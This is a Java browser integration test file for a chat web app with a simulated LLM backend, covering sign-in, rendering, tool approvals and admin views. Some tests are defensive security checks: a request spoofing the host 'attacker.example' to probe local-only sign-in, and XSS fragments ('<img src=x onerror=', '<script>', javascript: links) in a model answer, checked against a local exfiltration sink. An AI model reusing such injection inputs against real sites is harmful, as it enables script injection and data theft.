package dev.baton.server.it;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpServer;
import dev.baton.app.config.BatonConfig;
import dev.baton.app.config.ConfigLoader;
import dev.baton.app.config.ModelSettings;
import dev.baton.core.agent.TurnLimits;
import dev.baton.server.app.BatonServer;
import dev.baton.server.auth.JwtSecret;
import dev.baton.server.auth.TokenMinter;
import dev.baton.simulator.BundledScript;
import dev.baton.simulator.Condition;
import dev.baton.simulator.Fault;
import dev.baton.simulator.LlmSimulator;
import dev.baton.simulator.Pacing;
import dev.baton.simulator.Reply;
import dev.baton.simulator.Rule;
import dev.baton.simulator.SimulatorScript;
import dev.baton.simulator.TaskAgentScript;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URLDecoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicReference;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.By;
import org.openqa.selenium.Dimension;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.Keys;
import org.openqa.selenium.OutputType;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.interactions.Actions;
import org.openqa.selenium.logging.LogEntry;
import org.openqa.selenium.logging.LogType;
import org.openqa.selenium.support.ui.ExpectedConditions;
import org.openqa.selenium.support.ui.Select;
import org.openqa.selenium.support.ui.WebDriverWait;

/**
 * The web app at / in a real browser (headless Chromium through Selenium) against a real server whose answers come
 * from a scripted LLM simulator: development sign-in, markdown, tool cards, stop, history after a reload, a phone's
 * screen, inert HTML in answers, a readable rate-limit error, the admin views, token sign-in on a server with a
 * configured secret, and approving or denying a tool call that waits for the user. Screenshots of each state go to {@code target/screenshots/webapp/}.
 *
 * <p>The tests share one browser and run in order, as a person would use the app; each still sets up what it checks.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class WebAppBrowserIT {

    static final Path SHOTS = Path.of("target", "screenshots", "webapp");
    static final Map<String, Set<String>> ROLES = roles();

    static final String MARKDOWN = """
            ## Your week at a glance

            Here is what I found — **three** things matter:

            1. Finish the *report*
            2. Call the dentist
            3. Water the plants

            | Day | Task |
            |-----|------|
            | Mon | Report |
            | Tue | Dentist |

            ```java
            public record Task(String title, boolean done) {}
            ```

            More in [the docs](https://example.org/docs).
            """;
    static final String SLOW = ("Let me think about this carefully, one step at a time, because it deserves a "
                    + "thorough answer. ")
            .repeat(8);
    static final String HELLO = "Hello! How can I help you today?";

    @TempDir
    static Path dir;

    static final ShiftedClock clock = new ShiftedClock();
    /** The day (UTC) whose only usage is the private agent's, on a model whose price is 0. */
    static java.time.LocalDate freeUsageDay;

    static final AtomicInteger exfilHits = new AtomicInteger();
    static HttpServer exfil;
    static LlmSimulator simulator;
    static BatonServer server;
    static BatonServer tokenOnlyServer;
    static String base;
    static String secret;
    static ApiClient api;
    static ChromeDriver browser;
    static WebDriverWait wait;

    @BeforeAll
    static void start() throws IOException {
        Chromium.Installation chromium = Chromium.require();
        Files.createDirectories(SHOTS);
        exfil = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        exfil.createContext("/", exchange -> {
            exfilHits.incrementAndGet();
            exchange.sendResponseHeaders(204, -1);
            exchange.close();
        });
        exfil.start();
        simulator = LlmSimulator.start(
                script("http://127.0.0.1:" + exfil.getAddress().getPort()));

        // what `baton serve` does with no secret configured: generate one and say so
        secret = JwtSecret.generate();
        server = BatonServer.start(
                config(secret, "web.db"),
                new BatonServer.Options("127.0.0.1", clock, Duration.ofMillis(200), simulator.baseUrl())
                        .withGeneratedJwtSecret(true));
        base = "http://127.0.0.1:" + server.port();
        api = new ApiClient(base);
        seedUsage();

        tokenOnlyServer = BatonServer.start(
                config(TestServer.SECRET, "token-only.db"),
                new BatonServer.Options("127.0.0.1", Clock.systemUTC(), Duration.ofMillis(200), simulator.baseUrl()));

        browser = Chromium.start(chromium, Files.createDirectories(dir.resolve("profile")), 1280, 860);
        wait = new WebDriverWait(browser, Duration.ofSeconds(20));
        // what a person's click grants: the copy buttons may write to the clipboard
        browser.executeCdpCommand(
                "Browser.grantPermissions",
                Map.of("origin", base, "permissions", List.of("clipboardReadWrite", "clipboardSanitizedWrite")));
    }

    @AfterAll
    static void stop() {
        if (browser != null) browser.quit();
        if (server != null) server.close();
        if (tokenOnlyServer != null) tokenOnlyServer.close();
        if (simulator != null) simulator.close();
        if (exfil != null) exfil.stop(0);
    }

    /** Whatever a test did, the page broke no rule of its Content-Security-Policy and threw no error. */
    @AfterEach
    void the_console_shows_no_policy_violation_or_script_error() {
        List<String> problems = browser.manage().logs().get(LogType.BROWSER).getAll().stream()
                .map(LogEntry::getMessage)
                .filter(m -> m.contains("Content Security Policy") || m.contains("Uncaught") || m.contains("TypeError"))
                .toList();
        assertThat(problems).isEmpty();
    }

    // --- sign-in -----------------------------------------------------------------------------------------------

    @Test
    @Order(1)
    void a_server_that_generated_its_secret_signs_a_local_browser_in_as_the_development_user() {
        browser.get(base + "/");
        browser.executeScript("localStorage.clear()");
        browser.navigate().refresh();

        WebElement button = wait.until(ExpectedConditions.elementToBeClickable(By.id("dev-signin-button")));
        assertThat(text(".dev-badge")).isEqualToIgnoringCase("Development only");
        assertThat(text("#dev-signin-note")).contains("demo", "generated its own signing secret");
        assertThat(browser.findElement(By.id("token")).isDisplayed())
                .as("the token field stays")
                .isTrue();
        shot("01-sign-in");

        button.click();

        wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("app")));
        wait.until(ExpectedConditions.textToBePresentInElementLocated(By.id("who"), "demo"));
        wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("admin-link")));
        assertThat(browser.findElement(By.id("sim-banner")).isDisplayed()).isTrue();
    }

    @Test
    @Order(2)
    void development_sign_in_is_refused_to_anything_but_a_browser_on_the_same_machine() throws IOException {
        String rebound = rawPost(server.port(), "/web/dev-token", "attacker.example:" + server.port());

        assertThat(rebound).startsWith("HTTP/1.1 403");
        assertThat(rebound).contains("\"forbidden\"").doesNotContain("\"token\"");
        assertThat(api.get("/web/settings", null)
                        .body()
                        .path("devSignIn")
                        .path("available")
                        .asBoolean())
                .isTrue();
    }

    // --- chatting ----------------------------------------------------------------------------------------------

    @Test
    @Order(3)
    void a_markdown_answer_is_rendered_with_highlighted_code_copy_buttons_and_safe_links() {
        openApp();
        newChat("tasks");

        send("Show me some markdown please");

        WebElement answer = awaitAnswer();
        WebElement md = answer.findElement(By.cssSelector(".markdown"));
        assertThat(md.findElement(By.tagName("h2")).getText()).isEqualTo("Your week at a glance");
        assertThat(md.findElement(By.tagName("strong")).getText()).isEqualTo("three");
        assertThat(md.findElements(By.cssSelector("ol li"))).hasSize(3);
        assertThat(md.findElements(By.cssSelector(".table-wrap table tbody tr")))
                .hasSize(2);
        WebElement code = md.findElement(By.cssSelector(".code-block pre code"));
        assertThat(code.getAttribute("class")).contains("hljs", "language-java");
        assertThat(code.findElements(By.cssSelector("span[class^='hljs-']"))).isNotEmpty();
        assertThat(text(md.findElement(By.cssSelector(".code-block .code-lang"))))
                .isEqualTo("java");
        WebElement copy = md.findElement(By.cssSelector(".code-block .copy-button"));
        assertThat(copy.getAttribute("aria-label")).isEqualTo("Copy code (java)");
        WebElement link = md.findElement(By.linkText("the docs"));
        assertThat(link.getAttribute("rel")).isEqualTo("noopener noreferrer");
        assertThat(link.getAttribute("target")).isEqualTo("_blank");
        assertThat(answer.findElement(By.cssSelector(".message-foot .meta")).getText())
                .contains("tokens");
        // the live region reads the finished answer once, as text
        wait.until(d -> text("#announcer").startsWith("Task assistant answered: Your week at a glance"));
        shot("02-markdown-answer");

        copy.click();
        wait.until(d -> copy.getText().equals("Copied"));
        assertThat(browser.executeAsyncScript("navigator.clipboard.readText().then(arguments[0])"))
                .isEqualTo("public record Task(String title, boolean done) {}\n");
    }

    @Test
    @Order(4)
    void tool_calls_show_as_collapsible_cards_with_arguments_result_duration_and_failures() {
        openApp();
        newChat("tasks");

        send("Please add a task for me");
        WebElement ok = wait.until(
                ExpectedConditions.presenceOfElementLocated(By.cssSelector(".tool-card[data-state='succeeded']")));
        awaitAnswer();
        send("Now try the broken tool");
        WebElement failed =
                wait.until(ExpectedConditions.presenceOfElementLocated(By.cssSelector(".tool-card.failed")));
        awaitAnswerCount(2);

        assertThat(ok.getAttribute("open")).as("collapsed until opened").isNull();
        ok.findElement(By.tagName("summary")).click();
        failed.findElement(By.tagName("summary")).click();
        assertThat(text(ok.findElement(By.cssSelector(".tool-name")))).isEqualTo("add_task");
        assertThat(text(ok.findElement(By.cssSelector(".tool-status")))).isEqualTo("Done");
        assertThat(text(ok.findElement(By.cssSelector(".tool-duration")))).matches("\\d+(\\.\\d)? m?s");
        List<WebElement> sections = ok.findElements(By.cssSelector(".tool-section pre"));
        assertThat(sections.get(0).getText()).contains("\"title\": \"buy oat milk\"", "\n");
        assertThat(sections.get(1).getText()).contains("buy oat milk");
        assertThat(ok.findElement(By.cssSelector("[data-slot='approval']")).isDisplayed())
                .as("room for approve/deny, unused until approvals exist")
                .isFalse();
        assertThat(text(failed.findElement(By.cssSelector(".tool-name")))).isEqualTo("complete_task");
        assertThat(text(failed.findElement(By.cssSelector(".tool-status")))).isNotEqualTo("Done");
        assertThat(text(failed.findElement(By.cssSelector(".tool-error")))).isNotBlank();
        shot("03-tool-cards");
    }

    @Test
    @Order(5)
    void stop_turns_a_slow_answer_into_a_stopped_one_not_an_error() {
        openApp();
        newChat("tasks");

        send("Give me a slow answer");
        WebElement stop = wait.until(ExpectedConditions.elementToBeClickable(By.id("stop")));
        wait.until(d -> lastAnswer().findElements(By.cssSelector(".markdown")).stream()
                .anyMatch(m -> m.getText().length() > 20));
        assertThat(text("#announcer")).as("chunks are not announced").doesNotContain("Let me think");
        stop.click();

        WebElement answer = lastAnswer();
        wait.until(d -> !answer.findElements(By.cssSelector(".badge.stopped")).isEmpty());
        wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("send")));
        assertThat(browser.findElements(By.cssSelector(".notice.error"))).isEmpty();
        String partial = answer.findElement(By.cssSelector(".markdown")).getText();
        assertThat(partial).isNotBlank();
        assertThat(partial.length()).isLessThan(SLOW.strip().length());
        assertThat(text(answer.findElement(By.cssSelector(".message-foot .meta"))))
                .contains("stopped");
        wait.until(d -> text("#announcer").equals("Answer stopped."));
        shot("04-stopped");

        browser.navigate().refresh();
        WebElement stored = wait.until(d -> d.findElements(By.cssSelector("article.message.assistant")).stream()
                .filter(a -> !a.findElements(By.cssSelector(".badge.stopped")).isEmpty())
                .findFirst()
                .orElse(null));
        assertThat(stored.findElement(By.cssSelector(".markdown")).getText()).startsWith("Let me think");
    }

    @Test
    @Order(6)
    void after_a_reload_the_sidebar_lists_conversations_newest_first_and_reopens_their_history() {
        openApp();
        newChat("tasks");
        send("First topic: plan the garden");
        awaitAnswer();
        String firstUrl = browser.getCurrentUrl();
        newChat("study");
        send("Second topic: book the trip");
        awaitAnswer();
        String secondUrl = browser.getCurrentUrl();
        assertThat(secondUrl).contains("#/c/").isNotEqualTo(firstUrl);

        // titles come back from the server too, not only from this browser's cache
        browser.executeScript("localStorage.removeItem('baton.titles')");
        browser.navigate().refresh();

        wait.until(d -> titles().contains("First topic: plan the garden"));
        List<String> titles = titles();
        assertThat(titles.indexOf("Second topic: book the trip"))
                .isLessThan(titles.indexOf("First topic: plan the garden"));
        assertThat(browser.getCurrentUrl()).isEqualTo(secondUrl);
        wait.until(d -> userMessages().contains("Second topic: book the trip"));
        assertThat(text("#chat-title")).isEqualTo("Second topic: book the trip");
        shot("05-sidebar-after-reload");

        conversation("First topic: plan the garden")
                .findElement(By.cssSelector("a"))
                .click();
        wait.until(d -> userMessages().contains("First topic: plan the garden"));
        assertThat(lastAnswer().getText()).contains(HELLO);
        assertThat(browser.getCurrentUrl()).isEqualTo(firstUrl);

        String id = firstUrl.substring(firstUrl.indexOf("#/c/") + 4);
        WebElement delete =
                conversation("First topic: plan the garden").findElement(By.cssSelector(".conversation-delete"));
        new Actions(browser).moveToElement(delete).click().perform();
        wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("confirm-delete")));
        browser.findElement(By.id("confirm-delete-ok")).click();

        wait.until(d -> !titles().contains("First topic: plan the garden"));
        wait.until(d -> browser.getCurrentUrl().endsWith("#/"));
        assertThat(api.get("/v1/sessions/" + id, devToken()).status()).isEqualTo(404);
    }

    @Test
    @Order(7)
    void on_a_phone_the_sidebar_is_a_drawer_and_the_chat_fits_the_screen() {
        openApp();
        newChat("tasks");
        send("Show me markdown on a phone");
        awaitAnswer();
        try {
            browser.manage().window().setSize(new Dimension(390, 844));
            wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("open-sidebar")));

            wait.until(ExpectedConditions.invisibilityOfElementLocated(By.id("sidebar")));
            assertThat(browser.findElement(By.id("message")).isDisplayed()).isTrue();
            assertThat((Boolean)
                            browser.executeScript("return document.documentElement.scrollWidth <= window.innerWidth"))
                    .as("nothing wider than the screen")
                    .isTrue();
            shot("06-phone-chat");

            browser.findElement(By.id("open-sidebar")).click();
            wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("sidebar")));
            // slid all the way in
            wait.until(d -> ((Number) browser.executeScript(
                                    "return document.getElementById('sidebar').getBoundingClientRect().left"))
                            .doubleValue()
                    == 0);
            assertThat(browser.findElement(By.id("open-sidebar")).getAttribute("aria-expanded"))
                    .isEqualTo("true");
            shot("07-phone-drawer");
            new Actions(browser).sendKeys(Keys.ESCAPE).perform();
            wait.until(ExpectedConditions.invisibilityOfElementLocated(By.id("sidebar")));
        } finally {
            browser.manage().window().setSize(new Dimension(1280, 860));
        }
    }

    // --- safety and errors -------------------------------------------------------------------------------------

    @Test
    @Order(8)
    void markup_and_javascript_links_in_an_answer_stay_inert_and_its_images_are_not_loaded() {
        openApp();
        newChat("tasks");

        send("Say something evil");

        WebElement answer = awaitAnswer();
        WebElement md = answer.findElement(By.cssSelector(".markdown"));
        // the HTML the model wrote is shown as what it is: text
        assertThat(md.getText())
                .contains("Here you go: <img src=x onerror=", "<script>", "click me", "a safe link</a>");
        for (String tag : List.of("img", "script", "iframe", "form", "button", "style", "svg")) {
            assertThat(md.findElements(By.tagName(tag))).as(tag).isEmpty();
        }
        assertThat((Long) browser.executeScript("""
                        return Array.from(arguments[0].querySelectorAll('*'))
                            .flatMap(e => Array.from(e.attributes).map(a => a.name))
                            .filter(n => n.startsWith('on') || n === 'style' || n === 'src').length""", md)).isZero();
        for (WebElement a : md.findElements(By.tagName("a"))) {
            String href = a.getAttribute("href");
            if (href != null) assertThat(href).startsWith("https://");
            if (href != null) assertThat(a.getAttribute("rel")).isEqualTo("noopener noreferrer");
        }
        assertThat(md.findElements(By.cssSelector(".blocked-image")).stream().map(WebAppBrowserIT::text))
                .containsExactly("Image not shown: secret chart");

        // what looked like javascript: links is text now: clicking it runs nothing
        for (WebElement a : md.findElements(By.partialLinkText("click me"))) a.click();
        assertThat(browser.executeScript("return window.__pwned === undefined")).isEqualTo(true);
        assertThat(browser.executeScript(
                        "return performance.getEntriesByType('resource').filter(e => e.name.includes('exfil')).length"))
                .isEqualTo(0L);
        assertThat(exfilHits).hasValue(0);
        shot("08-inert-html");
    }

    @Test
    @Order(9)
    void a_provider_rate_limit_is_shown_as_a_readable_error_that_says_when_to_try_again() {
        openApp();
        newChat("tasks");
        simulator.enqueueFault(Fault.rateLimited(30));

        send("Hello there");

        WebElement notice = wait.until(ExpectedConditions.visibilityOfElementLocated(By.cssSelector(".notice.error")));
        assertThat(text(notice.findElement(By.cssSelector(".notice-title")))).isEqualTo("Too many messages right now");
        assertThat(notice.getText()).containsPattern("You can send again in (29|30) seconds");
        WebElement retry = notice.findElement(By.tagName("button"));
        assertThat(retry.isEnabled()).isFalse();
        assertThat(retry.getText()).startsWith("Try again in");
        wait.until(d -> text("#announcer").startsWith("Too many messages right now"));
        shot("09-rate-limited");
    }

    // --- admin -------------------------------------------------------------------------------------------------

    @Test
    @Order(10)
    void an_admin_sees_usage_charts_by_user_agent_and_model_and_a_sessions_audit_trail() {
        openApp();
        newChat("private");
        send("Please remember that my email is ada@example.org");
        awaitAnswer();

        WebElement auditLink = wait.until(ExpectedConditions.elementToBeClickable(By.id("audit-link")));
        auditLink.click();

        WebElement table = wait.until(ExpectedConditions.visibilityOfElementLocated(By.cssSelector(".audit-table")));
        assertThat(table.getText()).contains("pii-redaction", "ada@example.org");
        for (String dimension : List.of("user", "agent", "model")) {
            WebElement canvas = wait.until(ExpectedConditions.presenceOfElementLocated(
                    By.cssSelector("figure[data-dimension='" + dimension + "'] canvas")));
            assertThat(browser.executeScript("return window.Chart.getChart(arguments[0]) !== undefined", canvas))
                    .isEqualTo(true);
        }
        WebElement byUser = browser.findElement(By.cssSelector("figure[data-dimension='user']"));
        byUser.findElement(By.tagName("summary")).click();
        assertThat(byUser.findElement(By.tagName("table")).getText()).contains("ada", "grace", "demo");
        assertThat(text("#usage-totals")).contains("Model calls");
        browser.manage().window().setSize(new Dimension(1280, 1500));
        try {
            shot("10-admin-usage-and-audit");
        } finally {
            browser.manage().window().setSize(new Dimension(1280, 860));
        }

        new Select(browser.findElement(By.id("usage-measure"))).selectByValue("tokens");
        wait.until(d -> text("#announcer").equals("Usage shown: Tokens (input + output)"));

        // a day whose only usage cost nothing (an unpriced model) still shows its calls, and says the cost is 0
        new Select(browser.findElement(By.id("usage-measure"))).selectByValue("costUsd");
        browser.executeScript(
                "document.getElementById('usage-from').value = arguments[0];"
                        + "document.getElementById('usage-to').value = arguments[0];"
                        + "document.getElementById('usage-form').requestSubmit();",
                freeUsageDay.toString());
        WebElement zero = wait.until(ExpectedConditions.visibilityOfElementLocated(
                By.cssSelector("figure[data-dimension='agent'] .zero-usage")));
        assertThat(zero.getText()).contains("Cost (USD) is 0", "no price");
        assertThat(text("#usage-charts")).doesNotContain("No usage in this range");
        assertThat(text("#usage-totals")).contains("Model calls").contains("1");
        WebElement byAgent = browser.findElement(By.cssSelector("figure[data-dimension='agent']"));
        byAgent.findElement(By.tagName("summary")).click();
        assertThat(byAgent.findElement(By.tagName("table")).getText()).contains("private");
    }

    // --- a server with a real secret ---------------------------------------------------------------------------

    @Test
    @Order(11)
    void a_server_with_a_configured_secret_offers_no_development_sign_in_and_takes_a_pasted_token() {
        String other = "http://127.0.0.1:" + tokenOnlyServer.port();
        browser.get(other + "/");

        wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("signin-view")));
        wait.until(d -> !text("#dev-signin-note").isEmpty());
        assertThat(browser.findElement(By.id("dev-signin-button")).isEnabled()).isFalse();
        assertThat(text("#dev-signin-note")).startsWith("Not available: this server verifies tokens");
        assertThat(new ApiClient(other).post("/web/dev-token", null, "{}").status())
                .isEqualTo(404);
        shot("11-token-sign-in");

        browser.findElement(By.id("token")).sendKeys("not-a-token");
        browser.findElement(By.cssSelector("#token-form button[type='submit']")).click();
        wait.until(d -> text("#signin-message").startsWith("The server did not accept your sign-in"));

        browser.findElement(By.id("token")).sendKeys(TestServer.token("pat"));
        browser.findElement(By.cssSelector("#token-form button[type='submit']")).click();

        wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("app")));
        wait.until(ExpectedConditions.textToBePresentInElementLocated(By.id("who"), "pat"));
        assertThat(browser.findElement(By.id("admin-link")).isDisplayed())
                .as("a student is no admin")
                .isFalse();
    }

    // --- approvals ---------------------------------------------------------------------------------------------

    @Test
    @Order(12)
    void a_held_tool_call_is_denied_or_approved_from_its_card_and_its_buttons_come_back_after_a_reload() {
        openApp();
        String token = devToken();
        ApiClient.Response created = api.post("/v1/tasks", token, "{\"title\":\"water the ferns\"}");
        assertThat(created.status()).as(created.raw()).isEqualTo(201);
        String taskId = created.body().path("task").path("id").asText();
        newChat("tasks");

        // delete_task is destructive: the call waits for the user
        send("delete water the ferns");
        WebElement card = wait.until(ExpectedConditions.presenceOfElementLocated(
                By.cssSelector(".tool-card[data-state='awaiting_approval']")));
        WebElement deny =
                wait.until(ExpectedConditions.elementToBeClickable(card.findElement(By.cssSelector(".deny-button"))));
        WebElement approve = card.findElement(By.cssSelector(".approve-button"));
        wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("send")));
        assertThat(text(card.findElement(By.cssSelector(".tool-name")))).isEqualTo("delete_task");
        assertThat(text(card.findElement(By.cssSelector(".tool-status")))).isEqualTo("Waits for your approval");
        // the card says what the call does; the raw arguments are folded away, one click from view
        assertThat(text(card.findElement(By.cssSelector(".approval-summary"))))
                .isEqualTo("Delete the task 'water the ferns'");
        WebElement raw = card.findElement(By.cssSelector("details.approval-arguments"));
        WebElement rawArguments = raw.findElement(By.cssSelector(".tool-section pre"));
        assertThat(raw.getAttribute("open")).as("collapsed").isNull();
        assertThat(rawArguments.isDisplayed()).isFalse();
        raw.findElement(By.tagName("summary")).click();
        wait.until(ExpectedConditions.visibilityOf(rawArguments));
        assertThat(rawArguments.getText()).contains("\"taskId\": \"" + taskId + "\"", "\"confirmation\": true");
        assertThat(card.findElements(By.cssSelector(".tool-body .tool-section")))
                .as("the arguments are shown once, inside the details")
                .isEmpty();
        assertThat(text(card.findElement(By.cssSelector(".approval-reason")))).contains("delete_task");
        assertThat(text(card.findElement(By.cssSelector(".approval-expiry"))))
                .startsWith("If nobody decides, it expires");
        assertThat(approve.getAttribute("aria-label")).startsWith("Approve delete_task");
        assertThat(deny.getAttribute("aria-label")).startsWith("Deny delete_task");
        wait.until(d -> text("#announcer").contains("asks for your approval to run delete_task"));

        // denied from the keyboard, with a comment: the answer says it was not done, and the task is still there
        card.findElement(By.cssSelector(".approval-comment")).sendKeys("keep it for now");
        deny.sendKeys(Keys.ENTER);
        wait.until(d -> lastAnswer().getText().contains("did not approve"));
        WebElement denied = awaitAnswer();
        assertThat(denied.getText()).contains("keep it for now");
        assertThat(card.findElements(By.cssSelector(".approve-button"))).isEmpty();
        assertThat(text(card.findElement(By.cssSelector(".approval-message")))).isEqualTo("You denied this call.");
        assertThat(taskIds(token)).contains(taskId);

        // asked again: a reload while the call waits shows its buttons again, and Approve deletes the task
        send("delete water the ferns");
        wait.until(d -> d.findElements(By.cssSelector(".tool-card[data-state='awaiting_approval'] .approve-button"))
                        .size()
                == 1);
        wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("send")));
        browser.navigate().refresh();
        WebElement again = wait.until(ExpectedConditions.elementToBeClickable(
                By.cssSelector(".tool-card[data-state='awaiting_approval'] .approve-button")));
        WebElement held = browser.findElement(By.cssSelector(".tool-card[data-state='awaiting_approval']"));
        assertThat(text(held.findElement(By.cssSelector(".approval-summary"))))
                .as("the summary stored with the pending approval")
                .isEqualTo("Delete the task 'water the ferns'");
        assertThat(held.findElement(By.cssSelector("details.approval-arguments .tool-section pre"))
                        .getAttribute("textContent"))
                .contains(taskId);
        assertThat(held.findElement(By.cssSelector(".deny-button")).isDisplayed())
                .isTrue();
        shot("12-approval");

        again.click();
        wait.until(d -> lastAnswer().getText().contains("deleted"));
        awaitAnswer();
        wait.until(d -> "succeeded".equals(held.getAttribute("data-state")));
        assertThat(text(held.findElement(By.cssSelector(".approval-message")))).isEqualTo("You approved this call.");
        assertThat(taskIds(token)).doesNotContain(taskId);
        assertThat(browser.findElements(By.cssSelector(".notice.error"))).isEmpty();
    }

    @Test
    @Order(13)
    void an_over_long_first_message_is_refused_without_losing_its_text_or_leaving_an_empty_conversation() {
        openApp();
        newChat("tasks");
        send("Hello there");
        awaitAnswer();
        String newest = newestConversation();
        newChat("tasks");
        String tooLong = "a".repeat(10_001);
        browser.executeScript(
                "const box = document.getElementById('message'); box.value = arguments[0];"
                        + "box.dispatchEvent(new Event('input')); document.getElementById('composer').requestSubmit();",
                tooLong);

        WebElement notice = wait.until(ExpectedConditions.visibilityOfElementLocated(By.cssSelector(".notice.error")));
        assertThat(notice.getText()).contains("10000");
        String kept = browser.findElement(By.id("message")).getAttribute("value");
        assertThat(tooLong.equals(kept))
                .as("the message box holds the refused text again (it holds %d characters)", kept.length())
                .isTrue();
        assertThat(newestConversation()).isEqualTo(newest);
        // nor after a reload: the conversation made for it was deleted
        openApp();
        wait.until(d ->
                !d.findElements(By.cssSelector("#sidebar a.conversation-link")).isEmpty());
        assertThat(newestConversation()).isEqualTo(newest);
    }

    // --- everyday features: regenerate, edit, export, rename and search, theme, starter prompts ----------------

    @Test
    @Order(14)
    void regenerate_asks_the_last_message_again_as_a_new_turn() {
        openApp();
        newChat("tasks");
        send("Tell me something nice");
        awaitAnswer();

        WebElement regenerate = wait.until(ExpectedConditions.elementToBeClickable(
                By.cssSelector("#log article.message.assistant .regenerate-button")));
        regenerate.click();

        awaitAnswerCount(2);
        wait.until(d ->
                lastAnswer().findElements(By.cssSelector(".regenerate-button")).size() == 1);
        assertThat(browser.findElements(By.cssSelector("#log .regenerate-button")))
                .as("only the newest answer can be regenerated")
                .hasSize(1);
        assertThat(userMessages()).containsExactly("Tell me something nice", "Tell me something nice");
        assertThat(storedUserMessages(currentSession()))
                .containsExactly("Tell me something nice", "Tell me something nice");
        shot("13-regenerated");
    }

    @Test
    @Order(15)
    void edit_puts_the_last_message_back_in_the_box_to_be_changed_and_sent_again() {
        openApp();
        newChat("tasks");
        send("Plan the picnic on Friday");
        awaitAnswer();

        wait.until(ExpectedConditions.elementToBeClickable(By.cssSelector("#log article.message.user .edit-button")))
                .click();
        WebElement box = browser.findElement(By.id("message"));
        wait.until(d -> "Plan the picnic on Friday".equals(box.getAttribute("value")));
        assertThat(browser.switchTo().activeElement()).isEqualTo(box);
        box.sendKeys(Keys.BACK_SPACE.toString().repeat("Friday".length()) + "Saturday");
        box.sendKeys(Keys.ENTER);

        awaitAnswerCount(2);
        wait.until(d -> !d.findElements(By.cssSelector("#log .edit-button")).isEmpty());
        assertThat(userMessages()).containsExactly("Plan the picnic on Friday", "Plan the picnic on Saturday");
        List<WebElement> users = browser.findElements(By.cssSelector("#log article.message.user"));
        assertThat(users.getLast().findElements(By.cssSelector(".edit-button"))).hasSize(1);
        assertThat(browser.findElements(By.cssSelector("#log .edit-button")))
                .as("only the last message can be edited")
                .hasSize(1);
        assertThat(storedUserMessages(currentSession()))
                .containsExactly("Plan the picnic on Friday", "Plan the picnic on Saturday");
    }

    @Test
    @Order(16)
    void a_conversation_exports_as_markdown_and_as_json_built_in_the_browser() throws IOException {
        Path downloads = Files.createDirectories(dir.resolve("downloads"));
        browser.executeCdpCommand(
                "Browser.setDownloadBehavior", Map.of("behavior", "allow", "downloadPath", downloads.toString()));
        openApp();
        assertThat(browser.findElement(By.id("export-menu")).isDisplayed())
                .as("nothing to export in a new chat")
                .isFalse();
        newChat("tasks");
        send("Please add a task for me");
        awaitAnswer();
        String session = currentSession();
        // what the page hands to the download: each Blob it makes a URL for, and the file name it suggests
        browser.executeScript("window.exported = [];"
                + "const url = URL.createObjectURL.bind(URL);"
                + "URL.createObjectURL = (blob) => { window.exported.push({blob}); return url(blob); };"
                + "const click = HTMLAnchorElement.prototype.click;"
                + "HTMLAnchorElement.prototype.click = function () {"
                + "  if (this.download) window.exported[window.exported.length - 1].name = this.download;"
                + "  return click.call(this); };");

        String markdown = export("export-markdown", 1);
        assertThat(exportedName(0)).isEqualTo("please-add-a-task-for-me.md");
        assertThat(exportedType(0)).startsWith("text/markdown");
        assertThat(markdown)
                .startsWith("# Please add a task for me\n")
                .contains(
                        "Session " + session,
                        "## You\n\nPlease add a task for me\n",
                        "## Task assistant\n",
                        "Tool call `add_task` (succeeded)",
                        "buy oat milk",
                        "Added **buy oat milk** to your list.");
        Path file = downloads.resolve("please-add-a-task-for-me.md");
        wait.until(d -> Files.exists(file));
        wait.until(d -> markdown.equals(read(file)));

        JsonNode json = new ObjectMapper().readTree(export("export-json", 2));
        assertThat(exportedName(1)).isEqualTo("please-add-a-task-for-me.json");
        assertThat(json.path("title").asText()).isEqualTo("Please add a task for me");
        assertThat(json.path("session").path("id").asText()).isEqualTo(session);
        assertThat(json.path("agent").path("id").asText()).isEqualTo("tasks");
        assertThat(json.path("messages").findValuesAsText("role")).containsExactly("user", "assistant");
        assertThat(json.path("messages")
                        .get(1)
                        .path("toolCalls")
                        .get(0)
                        .path("name")
                        .asText())
                .isEqualTo("add_task");
        assertThat(json.path("messages").get(1).path("content").asText())
                .isEqualTo("Added **buy oat milk** to your list.");
    }

    @Test
    @Order(17)
    void conversations_are_renamed_in_place_and_found_by_words_of_their_title() {
        openApp();
        newChat("tasks");
        send("Book the vet for the cat");
        awaitAnswer();

        rename("Book the vet for the cat").sendKeys("Vet visit for Tom" + Keys.ENTER);
        wait.until(d -> titles().contains("Vet visit for Tom"));
        assertThat(titles()).doesNotContain("Book the vet for the cat");
        wait.until(ExpectedConditions.textToBe(By.id("chat-title"), "Vet visit for Tom"));
        // Esc keeps the title it had
        rename("Vet visit for Tom").sendKeys("Something else" + Keys.ESCAPE);
        wait.until(d ->
